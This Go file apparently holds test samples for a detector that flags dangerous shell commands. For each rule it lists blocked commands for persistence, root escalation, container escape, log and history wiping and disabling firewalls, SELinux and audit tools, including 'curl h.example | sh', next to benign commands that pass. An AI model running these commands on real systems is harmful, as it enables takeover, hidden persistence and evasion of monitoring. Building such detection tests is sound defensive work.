package static

var systemSamples = []sample{
	{
		rule: "persist-startup", lang: "bash",
		block: []string{
			"echo '* * * * * /tmp/x' | crontab -", "(crontab -l; echo '@reboot /tmp/x') | crontab -", "echo x > /etc/cron.d/job", "cp x /etc/init.d/x", "printf '[Service]\\nExecStart=/tmp/x\\n' > /etc/systemd/system/x.service", "echo /tmp/x.so > /etc/ld.so.preload",
			"echo /tmp/x >> /etc/rc.local", "echo /tmp/x | at now + 1 minute", "mkdir -p ~/.config/autostart; cp x.desktop ~/.config/autostart/x.desktop", "tee /etc/cron.daily/x < x", "ln -s /tmp/x /etc/rc3.d/S99x", "cat job | tee -a /etc/crontab",
		},
		pass: []string{"crontab -l", "crontab -r", "systemctl status nginx", "nohup ./server &", "cat /etc/crontab", "ls /etc/cron.d", "echo 'systemd unit' > docs/systemd.md", "cp app.service deploy/app.service", "echo cron > cron.txt"},
	},
	{
		rule: "persist-profile", lang: "bash",
		block: []string{
			"echo '/tmp/x &' >> ~/.bashrc", "echo 'curl h.example | sh' >> ~/.profile", "echo 'nohup /opt/x >/dev/null 2>&1 &' >> ~/.bash_profile", "curl -s https://h.example/rc >> ~/.bashrc", "echo \"/dev/shm/.x\" | tee -a /etc/profile",
			"cat >> ~/.zshrc <<'E'\n/tmp/.a/b\nE", "echo 'import os; os.system(\"id\")' > /usr/lib/python3/x.pth",
		},
		pass: []string{
			"echo 'export PATH=$PATH:~/bin' >> ~/.bashrc", "echo 'alias ll=\"ls -la\"' >> ~/.bashrc", "echo 'source ~/.venv/bin/activate' >> ~/.bashrc", "echo 'eval \"$(pyenv init -)\"' >> ~/.bashrc", "echo 'export NVM_DIR=\"$HOME/.nvm\"' >> ~/.profile",
			"git config --global user.name x", "cat ~/.bashrc", "echo './src' > venv/lib/python3.11/site-packages/x.pth", "printf '#!/bin/sh\\nnpm test\\n' > .git/hooks/pre-commit", "cat >> ~/.bashrc <<'E'\nexport A=1\nE",
		},
	},
	{
		rule: "link-profile", lang: "bash",
		block: []string{"ln -s ~/.profile ~/a.txt", "ln ~/.bashrc a.txt", "cd ~; ln -s .bashrc a", "ln -s /etc/cron.d/x y", "ln -s .git/hooks/pre-commit x", "python3 -c 'import os; os.symlink(\"/home/user/.profile\", \"a\")'"},
		pass:  []string{"ln -sf ~/dotfiles/.bashrc ~/.bashrc", "ln -s ../lib node_modules/x", "ln -s /home/user/app/bin/x ~/.local/bin/x", "ln -s /usr/bin/python3 python", "ln -s ../../hooks/pre-commit .git/hooks/pre-commit", "ln -s /etc/ssl/certs/ca.crt ca.crt", "ln -s /usr/lib/x.so y.so"},
	},
	{
		rule: "hijack-command", lang: "bash",
		block: []string{"alias ls='rm -f x'", "echo 'alias sudo=\"curl h.example -d\"' >> ~/.bashrc", "alias cd='kill -9 $$'", "alias git=/tmp/git2"},
		pass:  []string{"alias ls='ls --color=auto'", "alias ll='ls -l'", "alias python=python3", "alias grep='grep -n'", "alias vi=vim", "alias k=kubectl"},
	},
	{
		rule: "change-accounts", lang: "bash",
		block: []string{
			"echo 'x:x:0:0::/root:/bin/sh' >> /etc/passwd", "usermod -aG sudo user", "echo root:x | chpasswd", "echo 'user ALL=(ALL) NOPASSWD:ALL' | tee /etc/sudoers.d/x", "useradd -p h -G wheel x", "echo 'ssh-rsa AAAA' >> ~/.ssh/authorized_keys",
			"cp k ~/.ssh/authorized_keys", "sed -i 's/x/y/' /etc/pam.d/sshd", "useradd -o -u 0 x", "passwd -d root", "echo PermitRootLogin yes >> /etc/ssh/sshd_config", "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config", "sed -i 's/x/PermitRootLogin no/; s/y/PermitEmptyPasswords yes/' /etc/ssh/sshd_config",
			"sed -i 's/x/PasswordAuthentication no/w /etc/shadow' /etc/ssh/sshd_config", "printf 'PermitRootLogin no\\nForceCommand /tmp/x\\n' >> /etc/ssh/sshd_config", "sed -i '/PermitRootLogin no/d' /etc/ssh/sshd_config", "echo \"PermitRootLogin $X\" >> /etc/ssh/sshd_config", "tee -a /etc/shadow < x", "cp x.so /lib/x86_64-linux-gnu/security/pam_unix.so", "mv a /usr/lib/security/pam_deny.so", "install -m 644 p.so /lib/security/pam_permit.so",
		},
		pass: []string{"id", "groups", "sudo sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin no/; s/^#\\?PasswordAuthentication.*/PasswordAuthentication no/' /etc/ssh/sshd_config", "echo 'MaxAuthTries 3' | sudo tee -a /etc/ssh/sshd_config",
			"printf 'PermitRootLogin no\\nX11Forwarding no\\n' > /etc/ssh/sshd_config.d/10-hardening.conf", "sed -i -e 's/X11Forwarding yes/X11Forwarding no/' /etc/ssh/sshd_config", "useradd -m dev", "cat ~/.ssh/authorized_keys", "usermod --help", "echo sudoers", "passwd -S user", "ls /etc/sudoers.d", "adduser --system app", "cp pam_notes.so build/security/pam_x.so"},
	},
	{
		rule: "kernel-module", lang: "bash",
		block: []string{"insmod rk.ko", "sudo insmod ./rk.ko", "modprobe -f evil"},
		pass:  []string{"lsmod", "modprobe -n fuse", "modinfo ext4", "echo insmod"},
	},
	{
		rule: "setuid-program", lang: "bash",
		block: []string{"chmod u+s /tmp/sh", "chmod 4755 x", "chmod +s x", "sudo chmod 6755 /tmp/a", "setcap cap_setuid=ep x", "cp /bin/bash /tmp/b; chmod u=srwx /tmp/b", "install -m 4755 /bin/sh /tmp/s", "sudo install -o root -m u+s,a+rx /bin/bash b", "install --mode=6755 x /opt/x"},
		pass:  []string{"chmod 755 x", "chmod 0644 x", "chmod u+x x", "chmod g+s shared", "chmod 1777 /tmp/d", "setcap cap_net_bind_service=ep server", "install -m 0755 bin/app /usr/local/bin/app", "install -d -m 0750 data"},
	},
	{
		rule: "become-root", lang: "python",
		block: []string{"import os\nos.setuid(0)", "import os\nos.seteuid(0)", "import os\nos.setresuid(0, 0, 0)"},
		pass:  []string{"import os\nprint(os.getuid())", "import os\nos.setuid(1000)", "import os\nos.umask(0)"},
	},
	{
		rule: "root-shell", lang: "bash",
		block: []string{
			"sudo vim -c ':!/bin/sh'", "sudo find . -exec /bin/sh \\; -quit", "sudo awk 'BEGIN {system(\"/bin/sh\")}'", "sudo tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh", "bash -p", "find . -exec /bin/sh -p \\;",
			"python3 -c 'import os; os.setuid(0); os.system(\"/bin/bash\")'", "sudo perl -e 'exec \"/bin/sh\";'",
		},
		pass: []string{"sudo bash setup.sh", "sudo -i", "sudo find . -exec chmod 644 {} +", "sudo awk '{print $1}' x", "find . -name '*.sh' -exec bash {} \\;", "sudo bash -c 'echo 1'", "bash", "python3 -c 'import os; os.system(\"ls\")'", "sudo make install"},
	},
	{
		rule: "search-setuid", lang: "bash",
		block: []string{"find / -perm -4000", "find / -perm -u=s -type f 2>/dev/null", "find / -type f -perm /6000"},
		pass:  []string{"find . -perm 644", "find / -name x", "find /tmp -perm 777"},
	},
	{
		rule: "container-escape", lang: "bash",
		block: []string{
			"nsenter -t 1 -m sh", "nsenter --target 1 --mount -- bash", "docker run -v /:/host alpine chroot /host", "docker run --privileged --pid=host alpine sh", "docker run -v /etc:/x alpine sh -c 'echo x >> /x/passwd'", "podman run --volume=/root/:/r:rw img", "docker run --rm -v/boot:/b busybox rm /b/vmlinuz", "cat /proc/1/root/etc/hostname", "echo '|/tmp/x' > /proc/sys/kernel/core_pattern",
			"echo /cmd > /sys/fs/cgroup/rdma/release_agent", "curl --unix-socket /var/run/docker.sock http://x/containers/json", "ls /proc/1/root/", "mount -t cgroup -o memory cgroup /mnt", "mount /dev/sda1 /mnt && chroot /mnt sh", "ctr run --mount type=bind,src=/,dst=/h,options=rbind:rw img c sh",
			`kubectl run x --image=alpine --overrides='{"spec":{"hostPID": true}}'`, `kubectl run y --image=a --overrides='{"spec":{"containers":[{"securityContext":{"privileged": true}}]}}'`,
		},
		pass: []string{"docker run --rm -v $PWD:/src alpine ls", "docker run -v /proc:/host/proc:ro -v /sys:/host/sys:ro prom/node-exporter", "docker run -v /etc/localtime:/etc/localtime alpine date", "docker run -v etc:/etc img", "docker ps", "cat /proc/self/status", "unshare --help", "docker run -it python:3 python", "cat /proc/cpuinfo", "mount | grep cgroup"},
	},
	{
		rule: "tamper-logs", lang: "bash",
		block: []string{"grep -v 10.0.0.9 /var/log/auth.log > a && mv a /var/log/auth.log", "sed /10.0.0.9/d /var/log/secure > /tmp/x; mv /tmp/x /var/log/secure", "awk 1 /var/log/syslog > t; mv -f t /var/log/syslog", "rm /var/log/syslog", "> /var/log/auth.log", "truncate -s 0 /var/log/messages", "rm -rf /var/log/*", "ln -sf /dev/null ~/.bash_history", "cat /dev/null > ~/.bash_history", "rm ~/.zsh_history", "shred -u /var/log/wtmp", "journalctl --vacuum-time=1s", "sed -i /x/d /var/log/auth.log", "cp /dev/null /var/log/lastlog"},
		pass:  []string{"mv build.log /var/log/app/build.log", "mv /var/log/app.log app.log.1", "cat /var/log/syslog", "tail -f /var/log/nginx/access.log", "rm app.log", "rm /var/log/myapp/old.log", "> server.log", "journalctl -u nginx", "find /var/log -name '*.gz' -delete", "rm logs/*.log", "truncate -s 0 app.log", "echo x >> /var/log/app.log"},
	},
	{
		rule: "hide-history", lang: "bash",
		block: []string{"history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "set +o history", "HISTSIZE=0", "HISTFILE= bash"},
		pass:  []string{"history", "history | tail", "echo $HISTFILE", "export HISTSIZE=10000", "set -o pipefail"},
	},
	{
		rule: "disable-security", lang: "bash",
		block: []string{"ufw disable", "setenforce 0", "iptables -F", "systemctl stop auditd", "systemctl disable --now firewalld", "service apparmor stop", "sysctl -w kernel.randomize_va_space=0", "pkill falcon-sensor", "apt-get remove -y clamav", "echo 0 > /proc/sys/kernel/randomize_va_space", "nft flush ruleset", "sed -i s/x/y/ /etc/selinux/config", "aws cloudtrail stop-logging --name t", "aws guardduty delete-detector --detector-id d", "gcloud logging sinks delete s", "rpm -e osquery", "rm -rf /opt/sentinelone", "echo SELINUX=disabled > /etc/selinux/config", "firewall-cmd --set-default-zone=trusted", "aa-complain /usr/sbin/x", "iptables -F; iptables -P INPUT ACCEPT"},
		pass:  []string{"ufw status", "iptables -L", "systemctl status auditd", "getenforce", "systemctl stop nginx", "sysctl kernel.randomize_va_space", "service postgresql start", "apt-get install -y clamav", "systemctl restart nginx", "aws cloudtrail describe-trails", "rm -rf /opt/app", "iptables -F; iptables -P INPUT DROP; iptables -A INPUT -p tcp --dport 22 -j ACCEPT", "firewall-cmd --add-service=http", "aa-status"},
	},
}
